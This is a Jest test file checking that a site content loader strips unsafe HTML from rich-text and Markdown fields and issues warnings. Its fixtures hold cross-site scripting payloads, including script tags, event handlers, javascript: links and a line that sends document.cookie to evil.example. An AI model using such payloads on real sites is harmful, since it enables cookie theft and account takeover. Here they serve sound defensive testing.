import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import type { Block } from 'shared-lib/content';

import { makeContent, makePage, makeStore } from '../test-utils/factories';
import { makeTempDir, removeDir, writeContentDir } from '../test-utils/contentDir';
import type { ContentIssue } from '../issues/ContentError';
import { loadContent } from './loadContent';

describe('loadContent sanitizes the fields the schema declares HTML', () => {
  let dir: string;
  beforeEach(() => {
    dir = makeTempDir();
  });
  afterEach(() => removeDir(dir));

  it('cleans every rich-text field and warns naming the file, the item and the field', () => {
    const content = makeContent();
    content.stores[0] = makeStore({
      ...content.stores[0],
      about: { processed: '<p onclick="steal()">Shoes.</p><script>steal()</script>' },
    });
    const about = content.pages.findIndex((page) => page.id === 'about-us');
    content.pages[about] = makePage({
      id: 'about-us',
      blocks: [
        { id: 'about-text', type: 'rich_text', text: '<p>Fine.</p>' },
        {
          id: 'about-more',
          type: 'rich_text',
          text: '<p><a href="javascript:steal()">Win</a></p>',
        },
      ],
    });
    writeContentDir(content, dir);
    const warnings: ContentIssue[] = [];
    const loaded = loadContent(dir, {
      displayBase: dir,
      onWarning: (warning) => warnings.push(warning),
    });

    expect(loaded.stores[0]!.about.processed).toBe('<p>Shoes.</p>');
    const block = loaded.pages.find((page) => page.id === 'about-us')!.blocks[1];
    expect(block).toMatchObject({ text: '<p><a>Win</a></p>' });
    expect(warnings).toEqual([
      {
        file: 'stores.json',
        itemId: content.stores[0]!.id,
        index: 0,
        field: 'about.processed',
        message: 'rich text: removed onclick on <p>, <script> (not allowed on the site)',
      },
      {
        file: 'pages/about-us.json',
        itemId: 'about-us',
        field: 'blocks[1].text',
        message: 'rich text: removed href on <a> (not allowed on the site)',
      },
    ]);
  });

  it("cleans an icon grid item's text, which the page renders as HTML, and leaves plain text as it is", () => {
    const content = makeContent();
    const home = content.pages.findIndex((page) => page.type === 'homepage');
    content.pages[home] = makePage({
      ...content.pages[home],
      blocks: [
        {
          id: 'home-icons',
          type: 'icon_grid',
          items: [
            { icon: 'clock', title: 'Hours', text: '<p>Open daily.</p>' },
            {
              icon: 'wifi',
              title: 'Wi-Fi <script>',
              text: '<p>Free Wi-Fi.</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="steal()">',
            },
          ],
        },
      ],
    });
    writeContentDir(content, dir);
    const warnings: ContentIssue[] = [];
    const loaded = loadContent(dir, {
      displayBase: dir,
      onWarning: (warning) => warnings.push(warning),
    });

    const page = loaded.pages.find(({ id }) => id === content.pages[home]!.id)!;
    const grid = page.blocks[0] as Extract<Block, { type: 'icon_grid' }>;
    expect(grid.items.map((item) => item.text)).toEqual([
      '<p>Open daily.</p>',
      '<p>Free Wi-Fi.</p><img src="x" />',
    ]);
    // A title is text: the page escapes it, so it is kept as written.
    expect(grid.items[1]!.title).toBe('Wi-Fi <script>');
    expect(warnings).toEqual([
      {
        file: join('pages', `${content.pages[home]!.id}.json`),
        itemId: content.pages[home]!.id,
        field: 'blocks[0].items[1].text',
        message: 'rich text: removed <script>, onerror on <img> (not allowed on the site)',
      },
    ]);
  });

  it('reads Markdown text as HTML, then cleans it as any rich text and names what it removed', () => {
    const content = makeContent();
    const offer = content.offers[0]!;
    writeContentDir(content, dir, 'folders');
    const file = join(dir, 'offers', `${offer.id}.json`);
    const record = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
    record.details = {
      value:
        'Half **off** every [shoe](https://example.com/).\n\n<iframe src="https://evil.example/"></iframe>',
      format: 'markdown',
    };
    writeFileSync(file, JSON.stringify(record));
    const warnings: ContentIssue[] = [];
    const loaded = loadContent(dir, {
      displayBase: dir,
      onWarning: (warning) => warnings.push(warning),
    });

    expect(loaded.offers[0]!.details).toEqual({
      processed: '<p>Half <strong>off</strong> every <a href="https://example.com/">shoe</a>.</p>',
    });
    expect(warnings).toEqual([
      {
        file: join('offers', `${offer.id}.json`),
        itemId: offer.id,
        field: 'details.processed',
        message: 'rich text: removed <iframe>, src on <iframe> (not allowed on the site)',
      },
    ]);
  });

  it("reads a block's Markdown text as the block's HTML text, cleaned as any rich text", () => {
    const content = makeContent();
    const about = content.pages.findIndex((page) => page.id === 'about-us');
    content.pages[about] = makePage({ id: 'about-us', blocks: [] });
    writeContentDir(content, dir);
    const file = join(dir, 'pages', 'about-us.json');
    const page = JSON.parse(readFileSync(file, 'utf8')) as { blocks: unknown[] };
    page.blocks = [
      {
        id: 'about-text',
        type: 'rich_text',
        text: { value: '## Hours\n\nOpen *daily*.<script>steal()</script>', format: 'markdown' },
      },
    ];
    writeFileSync(file, JSON.stringify(page));
    const warnings: ContentIssue[] = [];
    const loaded = loadContent(dir, {
      displayBase: dir,
      onWarning: (warning) => warnings.push(warning),
    });

    expect(loaded.pages.find(({ id }) => id === 'about-us')!.blocks[0]).toEqual({
      id: 'about-text',
      type: 'rich_text',
      text: '<h2>Hours</h2><p>Open <em>daily</em>.</p>',
    });
    expect(warnings).toEqual([
      {
        file: join('pages', 'about-us.json'),
        itemId: 'about-us',
        field: 'blocks[0].text',
        message: 'rich text: removed <script> (not allowed on the site)',
      },
    ]);
  });

  it('refuses Markdown that is not text, naming the file, item and field', () => {
    const content = makeContent();
    const offer = content.offers[0]!;
    writeContentDir(content, dir, 'folders');
    const file = join(dir, 'offers', `${offer.id}.json`);
    const record = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
    record.details = { value: ['Half off'], format: 'markdown' };
    writeFileSync(file, JSON.stringify(record));
    expect(() => loadContent(dir, { displayBase: dir })).toThrow(
      `offers/${offer.id}.json: item "${offer.id}": field "details.value": must be Markdown text`,
    );
  });

  it('says nothing about rich text that was already clean', () => {
    writeContentDir(makeContent(), dir);
    const onWarning = jest.fn();
    loadContent(dir, { displayBase: dir, onWarning });
    expect(onWarning).not.toHaveBeenCalled();
  });
});
